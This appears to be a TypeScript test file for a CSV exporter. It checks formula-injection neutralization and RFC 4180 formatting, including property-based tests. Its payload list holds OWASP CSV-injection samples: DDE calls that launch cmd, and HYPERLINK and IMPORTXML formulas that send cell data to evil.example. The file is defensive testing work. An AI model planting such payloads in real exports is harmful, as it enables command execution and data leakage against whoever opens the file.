import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { CSV_BOM, csvRecords, neutralizeCell, toCsv, type Cell } from "./csv";

/** What a spreadsheet treats as the start of a formula (OWASP CSV injection), incl. full-width forms. */
const TRIGGER = /^[\s\u3000]*[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/u;
const lines = (v: string) => v.split(/\r\n|\r|\n/);

/** Payloads from OWASP's CSV-injection page and common DDE/hyperlink variants. */
const OWASP_PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=1+2";=1+2',
  "=1+2'\" ;,=1+2",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u3000=1+1",
  "\uFF1D1+1",
  "\uFF0B1+1",
  "\uFF0D1+1",
  "\uFF20SUM(A1)",
  'María\n=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
  "ok\r\n+cmd",
  '=DDE("cmd";"/C calc";"!A0")A0',
  '@HYPERLINK("http://evil.example")',
];

describe("formula-injection neutralization (OWASP)", () => {
  it.each(OWASP_PAYLOADS)("neutralizes %j on every line", (payload) => {
    const safe = neutralizeCell(payload);
    for (const line of lines(safe)) if (line !== "") expect(TRIGGER.test(line) && !line.startsWith("'")).toBe(false);
    // Nothing but the apostrophes was changed.
    expect(safe.replaceAll("'", "")).toBe(payload.replaceAll("'", ""));
  });

  it("leaves ordinary text alone", () => {
    for (const v of ["María González", "Face massage + scalp", "555 010 2233", "a=b", "O'Brien", ""])
      expect(neutralizeCell(v)).toBe(v);
  });

  it("no line of any cell can start a formula, and only apostrophes are added (property)", () => {
    const alphabet = fc.constantFrom(
      "=",
      "+",
      "-",
      "@",
      "\t",
      "\r",
      "\n",
      " ",
      "\u3000",
      "\uFF1D",
      "\uFF0B",
      "\uFF0D",
      "\uFF20",
      "a",
      "1",
      "'",
      '"',
      ",",
      "é",
      "李",
    );
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: alphabet }), fc.string({ unit: "grapheme" })), (value) => {
        const safe = neutralizeCell(value);
        for (const line of lines(safe)) expect(TRIGGER.test(line) && !line.startsWith("'")).toBe(false);
        let i = 0;
        let stripped = "";
        // Removing exactly the inserted apostrophes gives back the original.
        for (const ch of safe) {
          if (ch === "'" && value[i] !== "'") continue;
          stripped += ch;
          i += ch.length;
        }
        expect(stripped).toBe(value);
      }),
      { numRuns: 2000 },
    );
  });
});

describe("CSV files (RFC 4180)", () => {
  it("starts with a BOM, ends records with CRLF, quotes only what needs it, keeps numbers numeric", () => {
    expect(
      toCsv(
        ["Name", "Revenue (USD)"],
        [
          ['x,"y"', 25.5],
          ["Zoë", 0],
          [null, 12],
        ],
      ),
    ).toBe(`${CSV_BOM}Name,Revenue (USD)\r\n"x,""y""",25.5\r\nZoë,0\r\n,12\r\n`);
  });

  it("round-trips any table through a strict RFC 4180 parser (property)", () => {
    const cell: fc.Arbitrary<Cell> = fc.oneof(
      fc.string({ unit: "grapheme" }),
      fc.integer(),
      fc.double({ noNaN: true, noDefaultInfinity: true }),
      fc.constant(null),
    );
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 3, maxLength: 3 }), { maxLength: 20 }), (rows) => {
        const text = toCsv(["a", "b", "c"], rows);
        expect(text.startsWith(CSV_BOM)).toBe(true);
        const parsed: string[][] = parse(text.slice(1), {
          relax_quotes: false,
          relax_column_count: false,
          record_delimiter: "\r\n",
        });
        expect(parsed).toEqual([
          ["a", "b", "c"],
          ...rows.map((r) => r.map((c) => (c === null ? "" : typeof c === "number" ? String(c) : neutralizeCell(c)))),
        ]);
      }),
      { numRuns: 500 },
    );
  });

  it("for a spreadsheet that writes 1.234,56: fields end at ; and decimals are written with a comma", () => {
    expect(
      toCsv(
        ["Name", "Revenue (USD)"],
        [
          ['x;"y"', 25.5],
          ["Garcia, Maria", -0.25],
          [null, 12],
        ],
        "semicolon",
      ),
    ).toBe(`${CSV_BOM}Name;Revenue (USD)\r\n"x;""y""";25,5\r\nGarcia, Maria;-0,25\r\n;12\r\n`);
    fc.assert(
      fc.property(
        fc.array(
          fc.array(fc.oneof(fc.string({ unit: "grapheme" }), fc.double({ noNaN: true, noDefaultInfinity: true })), {
            minLength: 3,
            maxLength: 3,
          }),
          { maxLength: 20 },
        ),
        (rows) => {
          const parsed: string[][] = parse(toCsv(["a", "b", "c"], rows, "semicolon").slice(1), {
            delimiter: ";",
            relax_quotes: false,
            relax_column_count: false,
            record_delimiter: "\r\n",
          });
          expect(parsed).toEqual([
            ["a", "b", "c"],
            ...rows.map((r) => r.map((c) => (typeof c === "number" ? String(c).replace(".", ",") : neutralizeCell(c)))),
          ]);
          // Every number reads back as itself where the comma is the decimal mark.
          for (const [i, r] of rows.entries())
            r.forEach((c, j) => {
              if (typeof c === "number") expect(Number(parsed[i + 1]![j]!.replace(",", "."))).toBe(c === 0 ? 0 : c);
            });
        },
      ),
      { numRuns: 300 },
    );
  });

  it("formats a batch with no header or BOM for streaming", () => {
    expect(csvRecords([])).toBe("");
    expect(
      csvRecords([
        ["=1", "-2"],
        [3, null],
      ]),
    ).toBe("'=1,'-2\r\n3,\r\n");
  });
});
